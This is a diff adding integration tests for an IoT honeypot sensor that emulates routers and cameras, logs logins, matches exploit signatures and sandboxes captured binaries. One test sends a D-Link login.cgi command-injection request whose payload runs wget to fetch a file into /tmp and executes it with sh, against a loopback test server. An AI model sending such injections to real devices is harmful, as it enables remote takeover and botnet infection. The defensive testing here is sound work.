@@ -130,8 +130,12 @@ class SharedSensor(harness.unittest.TestCase):
 
     @classmethod
     def setUpClass(cls):
-        cls.ports = {name: harness.free_port() for name in DEVICES + PORT_DEVICES}
-        cls.telnet_port = harness.free_port()
+        ports = set()
+        while len(ports) < len(DEVICES + PORT_DEVICES) + 1:  # free_port may repeat itself
+            ports.add(harness.free_port())
+        ports = sorted(ports)
+        cls.ports = dict(zip(DEVICES + PORT_DEVICES, ports))
+        cls.telnet_port = ports[-1]
         listens = ['http@127.0.0.1:%d/%s' % (p, n) for n, p in cls.ports.items()]
         listens.append('telnet@127.0.0.1:%d' % cls.telnet_port)
         cls.sensor = harness.Sensor(listens=listens,
@@ -165,15 +169,71 @@ class CurlTest(SharedSensor):
         out = curl('-i', '--digest', '-u', 'admin:12345', 'http://127.0.0.1:%d/cgi-bin/config_backup.cgi' % port)
         self.assertIn('HTTP/1.1 200 OK', out)
         self.assertIn('admin_password=12345', out)
-        ev = self.sensor.events(wait_for=('mitsu.webui.action', lambda e: e['dst_port'] == port))
-        logins = [e for e in ev if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port]
+        # Other tests log in to this port too (Basic): wait for this Digest login.
+        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port
+                                          and e['scheme'] == 'digest' and e['success']))
+        logins = [e for e in ev if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port
+                  and e['scheme'] == 'digest']
         self.assertEqual([(e['scheme'], e['username'], e['password'], e['success']) for e in logins][-1:],
                          [('digest', 'admin', '12345', True)])
         out = curl('-i', '--digest', '-u', 'admin:nope', 'http://127.0.0.1:%d/' % port)
         self.assertIn('401 Unauthorized', out)
-        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port and not e['success']))
-        bad = [e for e in ev if e['eventid'] == 'mitsu.http.login' and not e['success'] and e['dst_port'] == port]
+        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port and not e['success']
+                                          and e['scheme'] == 'digest'))
+        bad = [e for e in ev if e['eventid'] == 'mitsu.http.login' and not e['success'] and e['dst_port'] == port
+               and e['scheme'] == 'digest']
         self.assertIsNone(bad[-1]['password'])  # a Digest login does not reveal a wrong password
+
+    def test_curl_basic_every_basic_profile(self):
+        """curl --basic against every profile that offers Basic: a right password logs in (the
+        status page answers) and a wrong one does not; each attempt is a mitsu.http.login
+        with scheme basic, the user, the password and success."""
+        for name in ('ipcam-a', 'ipcam-b', 'router-c', 'router-d'):
+            prof = read_profile(name)
+            self.assertIn('basic', prof['http']['auth'].split(), name)
+            port = self.ports[name]
+            user, password = prof['credentials'][0]
+            url = 'http://127.0.0.1:%d%s' % (port, prof['actions']['status'][1])
+            out = curl('-i', '--basic', '-u', '%s:%s' % (user, password), url)
+            self.assertRegex(out, r'^HTTP/1\.[01] 200 OK\r\n', name)
+            self.assertIn('Server: %s\r\n' % prof['http']['server'], out)
+            out = curl('-i', '--basic', '-u', '%s:wrong-%s' % (user, name), url)
+            self.assertRegex(out, r'^HTTP/1\.[01] 401 ', name)
+            ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e, p=port, n=name: (
+                e['dst_port'] == p and e['password'] == 'wrong-' + n)))
+            logins = [(e['scheme'], e['username'], e['password'], e['success']) for e in ev
+                      if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port]
+            self.assertEqual(logins[-2:], [('basic', user, password, True),
+                                           ('basic', user, 'wrong-' + name, False)], name)
+
+    def test_exploit_ports_banners_and_spray(self):
+        """The exploit-port listeners (HG532 37215, Realtek miniigd 52869, TR-064 7547, here on
+        free ports) answer with their device's banner; a signature's request sprayed at every
+        listener is labelled on each, with the port it arrived on."""
+        for name in PORT_DEVICES:
+            c = http.client.HTTPConnection('127.0.0.1', self.ports[name], timeout=10)
+            c.request('GET', '/')
+            r = c.getresponse()
+            r.read()
+            c.close()
+            self.assertEqual(r.getheader('Server'), read_profile(name)['http']['server'], name)
+        with open(os.path.join(SAMPLES, 'huawei-hg532-upgrade-rce.http'), 'rb') as f:
+            raw = f.read()
+        for name, port in self.ports.items():
+            c = socket.create_connection(('127.0.0.1', port), timeout=10)
+            c.sendall(raw)
+            self.assertRegex(c.recv(65536), rb'^HTTP/1\.[01] \d\d\d ', name)
+            c.close()
+        want = set(self.ports.values())
+        deadline = time.monotonic() + 20
+        while True:
+            got = {e['dst_port'] for e in self.sensor.events('mitsu.exploit.match')
+                   if e['signature'] == 'huawei-hg532-upgrade-rce' and e['cve'] == 'CVE-2017-17215'}
+            if want <= got or time.monotonic() > deadline:
+                break
+            time.sleep(0.1)
+        self.assertEqual({n: p in got for n, p in self.ports.items()},
+                         {n: True for n in self.ports})
 
     def test_curl_form_cookie(self):
         for name in ('router-e', 'pocket-f', 'pocket-g'):
@@ -411,6 +471,64 @@ class PipelineTest(harness.unittest.TestCase):
             srv.stop()
             shutil.rmtree(tmp, ignore_errors=True)
 
+    def test_wget_exploit_and_firmware_upload_to_verdict(self):
+        """The shared machinery end to end on two more ways in: a `;wget http://ADDR:PORT/x`
+        inside an exploit's target (the D-Link DSL-2750B login.cgi injection) and a firmware
+        upload behind Basic login. The first is fetched from a test HTTP server on loopback,
+        the second taken from the request; both end as stored samples with a sandbox verdict
+        (mitsu.box.result), as a Telnet download does (tests/integration/test_pipeline.py).
+        The binaries are harmless test programs (tests/data/box)."""
+        from test_box import compile_bot
+        from test_capture import Servers, sha
+        tmp = tempfile.mkdtemp(prefix='mitsu-webpipe2-')
+        srv = Servers()
+        try:
+            fetched = os.path.join(tmp, 'x.arm')
+            compile_bot('mirai_like', 'arm', fetched)
+            with open(fetched, 'rb') as f:
+                payload = srv.put('x', f.read())
+            firmware = os.path.join(tmp, 'fw.mips')
+            compile_bot('benign', 'mips', firmware)
+            with open(firmware, 'rb') as f:
+                image = f.read()
+            web_port = harness.free_port()
+            srv.start_http(web_port)
+            port = harness.free_port()
+            with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port],
+                                sets=['capture.allow_private=true', 'box.window=15']) as s:
+                target = ('/login.cgi?cli=aa%%20aa%%27;wget%%20http://%s:%d/x%%20-O%%20-%%3E%%20'
+                          '/tmp/d;sh%%20/tmp/d%%27$' % (srv.addr, web_port))
+                c = socket.create_connection(('127.0.0.1', port), timeout=10)
+                c.sendall(b'GET ' + target.encode() + b' HTTP/1.1\r\nHost: x\r\n\r\n')
+                self.assertRegex(c.recv(65536), rb'^HTTP/1\.[01] \d\d\d ')
+                c.close()
+                body, ctype = multipart('fw.bin', image)
+                r, _ = Client(port, 'router-d').request('POST', '/goform/upgrade', body,
+                                                        {'Content-Type': ctype})
+                self.assertEqual(r.status, 200)
+                want = {sha(payload), sha(image)}
+                s.events(wait_for=('mitsu.box.result', lambda e: want <= {
+                    x.get('shasum') for x in s.events('mitsu.box.result')}), timeout=300)
+                ev = s.events()
+                match = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
+                self.assertEqual([m['signature'] for m in match], ['dlink-dsl2750b-rce'])
+                dl = [e for e in ev if e['eventid'] == 'mitsu.session.file_download']
+                self.assertEqual([(d['url'], d['shasum'], d['session']) for d in dl],
+                                 [('http://%s:%d/x' % (srv.addr, web_port), sha(payload),
+                                   match[0]['session'])])
+                up = [e for e in ev if e['eventid'] == 'mitsu.session.file_upload']
+                self.assertEqual([(u['shasum'], u['method']) for u in up],
+                                 [(sha(image), 'firmware_upload')])
+                stored = {e['shasum'] for e in ev if e['eventid'] == 'mitsu.sample.stored'}
+                self.assertLessEqual(want, stored)
+                res = {e['shasum']: e for e in ev if e['eventid'] == 'mitsu.box.result'}
+                self.assertEqual(res[sha(payload)]['arch'], 'arm')
+                self.assertEqual(res[sha(payload)]['family'], 'mirai')
+                self.assertEqual(res[sha(image)]['arch'], 'mips')
+        finally:
+            srv.stop()
+            shutil.rmtree(tmp, ignore_errors=True)
+
 
 class ReportTest(harness.unittest.TestCase):
     def test_report_tables_from_a_mix_of_hosts(self):
@@ -538,6 +656,57 @@ class HostileTest(harness.unittest.TestCase):
             self.assertEqual(closed[0]['reason'], 'idle')
             idle.close()
             slow.close()
+
+
+class BudgetTest(harness.unittest.TestCase):
+    def test_big_uploads_held_within_the_memory_budget(self):
+        """Six firmware uploads at once, each 300 kB into a 400 kB body, against a memory budget
+        (limits.shell_memory_total) of 1 MiB: the request buffers of HTTP sessions count
+        against it, so only one upload can be held whole (its buffer is 512 KiB); each time the
+        total passes the budget, the session holding the most gives way (memory_budget).
+        The survivor finishes its upload, which is stored as a sample."""
+        port = harness.free_port()
+        budget = 1 << 20
+        body, ctype = multipart('fw-big.bin', fake_firmware('big') * 98)
+        self.assertGreater(len(body), 400000)
+        head = ('POST /goform/upgrade HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %s\r\n'
+                'Content-Type: %s\r\nContent-Length: %d\r\n\r\n' % (
+                    base64.b64encode(b'admin:admin').decode(), ctype, len(body))).encode()
+        first = 300000
+        with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port],
+                            sets=['limits.shell_memory_total=%d' % budget, 'box.auto=false',
+                                  'capture.fetch=false']) as s:
+            conns = []
+            for _ in range(6):
+                c = socket.create_connection(('127.0.0.1', port), timeout=10)
+                c.sendall(head + body[:first])
+                conns.append(c)
+            ports = {c.getsockname()[1]: c for c in conns}
+            s.events(wait_for=('mitsu.session.closed', lambda e: [
+                x['reason'] for x in s.events('mitsu.session.closed')].count('memory_budget') >= 5))
+            closed = {e['src_port']: e['reason'] for e in s.events('mitsu.session.closed')}
+            self.assertEqual(sorted(closed.values()), ['memory_budget'] * 5)
+            survivors = [c for p, c in ports.items() if p not in closed]
+            self.assertEqual(len(survivors), 1)
+            # A closed peer reads the end of its connection.
+            for p, c in ports.items():
+                if p in closed:
+                    try:
+                        self.assertEqual(c.recv(65536), b'')
+                    except ConnectionResetError:
+                        pass
+            # Meanwhile an ordinary client is served.
+            r, _ = Client(port, 'router-d').request('GET', '/goform/status')
+            self.assertEqual(r.status, 200)
+            last = survivors[0]
+            last.sendall(body[first:])
+            reply = last.recv(65536)
+            self.assertTrue(reply.startswith(b'HTTP/1.0 200 '), reply[:100])
+            want = hashlib.sha256(fake_firmware('big') * 98).hexdigest()
+            ev = s.events(wait_for=('mitsu.session.file_upload', lambda e: e['shasum'] == want))
+            self.assertEqual(len([e for e in ev if e['eventid'] == 'mitsu.session.file_upload']), 1)
+            for c in conns:
+                c.close()
 
 
 if __name__ == '__main__':
